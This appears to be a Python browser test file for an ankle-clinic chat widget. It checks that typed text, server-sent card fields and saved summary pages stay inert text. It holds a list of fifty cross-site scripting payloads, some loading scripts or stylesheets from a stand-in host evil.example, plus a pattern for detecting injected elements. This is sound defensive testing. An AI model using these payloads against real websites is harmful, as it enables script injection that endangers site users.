"""Whatever a person types or the server sends is text: no script runs, and no element is made of it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from tests.browser.channel import Channel, turn
from tests.browser.clinic import Site
from tests.browser.conftest import Watched
from tests.browser.window import Window

RUN = "hit(1)"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"`><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>tap</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>tap</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=https://evil.example/>",
    f"<form action='javascript:{RUN}'><button>tap</button></form>",
    f"<a href='javascript:{RUN}'>tap</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>tap</a>",
    f"javascript:{RUN}",
    f"[tap](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f'https://evil.example/"onmouseover="{RUN}',
    f'mailto:x@evil.example"onfocus="{RUN}"autofocus="',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"${{{RUN}}} {{{{{RUN}}}}} #{{{RUN}}}",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<ankle-assistant data-base='https://evil.example' data-label='<img src=x onerror={RUN}>'></ankle-assistant>",
]

GUARD = """(() => { window.hits = 0; window.hit = () => window.hits++;
  for (const name of ['alert', 'confirm', 'prompt']) window[name] = window.hit; })()"""
# Elements that text must never become, and attributes that act.
MADE = """root => [...root.querySelectorAll('*')].filter(node =>
  /^(script|iframe|object|embed|link|style|meta|base|video|audio|source|math|template|animate|body|title)$/
    .test(node.localName) || node.localName.includes('-')
  || [...node.attributes].some(({name}) => /^on|^srcdoc$|^xlink/.test(name))
  || (node.localName === 'a' && !/^(https:\\/\\/|mailto:|tel:)/.test(node.getAttribute('href')))
  || (node.localName === 'form' && node.hasAttribute('action'))
  || (node.localName === 'img' && !new URL(node.src).pathname.startsWith('/pictures/'))).map(node => node.outerHTML)"""


def test_there_are_fifty_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) == 50


def test_what_the_person_types_stays_text(contexts: Callable[..., Watched], site: Site) -> None:
    watched, window = _guarded(contexts, site)
    window.open()
    for text in HOSTILE:
        window.type(text)
    window.replies.nth(len(HOSTILE)).wait_for(timeout=60_000)
    _check(watched, window)
    shown = window.mine.locator("p").all_text_contents()
    assert shown == HOSTILE
    window.reload()
    window.replies.nth(10).wait_for()
    assert window.mine.locator("p").all_text_contents() == HOSTILE
    _check(watched, window)


def test_what_the_server_sends_stays_text_in_every_field_of_every_card(
    contexts: Callable[..., Watched], site: Site
) -> None:
    watched, window = _guarded(contexts, site)
    Channel(window.page, [_turn(text) for text in HOSTILE])
    window.open()
    window.replies.nth(len(HOSTILE) - 1).wait_for(timeout=60_000)
    _check(watched, window)
    shown = _spaced(window.log.text_content() or "")
    assert [text for text in HOSTILE if _spaced(text).removeprefix("mailto:") not in shown] == []
    window.reload()
    window.replies.nth(len(HOSTILE) - 1).wait_for(timeout=60_000)
    _check(watched, window)


def test_a_summary_that_is_saved_as_a_page_holds_no_script(
    contexts: Callable[..., Watched], site: Site, tmp_path: Path
) -> None:
    watched, window = _guarded(contexts, site)
    answers = [{"question": text, "answer": text, "words": f"{text} again"} for text in HOSTILE]
    Channel(
        window.page, [turn({"text": "Summary.", "card": {**_cards("x")[3], "answers": answers, "raised": HOSTILE}})]
    )
    window.open()
    with window.page.expect_download() as begun:
        window.page.get_by_role("button", name="Save as page").click()
    begun.value.save_as(tmp_path / "summary.html")
    page = watched.context.new_page()
    page.add_init_script(GUARD)
    page.goto((tmp_path / "summary.html").as_uri())
    assert page.evaluate("hits") == 0
    assert page.evaluate(MADE.replace("root =>", "() =>").replace("root.query", "document.body.query")) == []
    assert page.locator("dt").count() == len(HOSTILE)
    assert page.locator("script, img, iframe, svg").count() == 0


def _guarded(contexts: Callable[..., Watched], site: Site) -> tuple[Watched, Window]:
    """A window on a page without any policy, where a script that got in would run and be counted."""
    watched = contexts()
    page = watched.context.new_page()
    page.add_init_script(GUARD)
    page.goto(site.origin)
    return watched, Window(page)


def _check(watched: Watched, window: Window) -> None:
    window.page.wait_for_timeout(300)
    made = window.page.locator("ankle-assistant").evaluate(f"node => ({MADE})(node.shadowRoot)")
    assert made == []
    assert window.page.evaluate("hits") == 0
    assert window.page.locator("ankle-assistant").count() == 1
    assert not [url for url in watched.requests if urlsplit(url).hostname == "evil.example"]


def _spaced(text: str) -> str:
    """`text` with single spaces."""
    return " ".join(text.split())


def _cards(text: str) -> list[dict[str, Any]]:
    """A card of each type, with `text` in every field that holds one."""
    answers = [{"question": text, "answer": text, "words": f"{text} again"}]
    entry = {"exercise": text, "name": text, "dose": text, "days": 3, "picture": text}
    exercise = {
        **{"exercise": text, "name": text, "number": 2, "of": 3, "picture": text, "picture_text": text},
        **{"steps": [text, text], "dose": text, "sets": 2, "sides": 2, "feel": text, "stop": text},
    }
    routine = {"week": text, "version": text, "exercises": [entry], "strength": [entry], "left_out": [text]}
    result = {"result": text, "version": text, "rule": text, "fits": 1, "shared": 1, "against": 1, "answers": answers}
    return [
        {"type": "question", "question": text, "many": True, "number": 1, "of": 2},
        {"type": "scale", "from": 0, "to": 10},
        {"type": "self_check_result", **result},
        {"type": "summary", "date": text, "raised": [text], "result": text, "version": text, "answers": answers},
        {"type": "exercise", **exercise, "seconds": 20, "repeats": None},
        {"type": "exercise", **exercise, "seconds": None, "repeats": text},
        {"type": "routine", **routine},
        {"type": "progress", "sessions": [{"day": text, "week": 1, "pain": 2}, {"day": text, "week": 1, "pain": None}]},
        {"type": "red_flag", "level": text, "flag": text},
        {"type": text},
    ]


def _turn(text: str) -> dict[str, Any]:
    """A turn with `text` wherever a turn can hold one."""
    buttons = [{"title": text, "id": text}, {"title": text, "id": text}]
    replies = [{"text": text, "sources": [text, text], "buttons": buttons, "card": card} for card in _cards(text)]
    alert = {"text": f"{text} Call 999.", "card": {"type": "red_flag", "level": "emergency", "flag": text}}
    return turn(
        alert, *replies, outcome="escalate:emergency", level="emergency", topic=text, expecting=text, result=text
    )
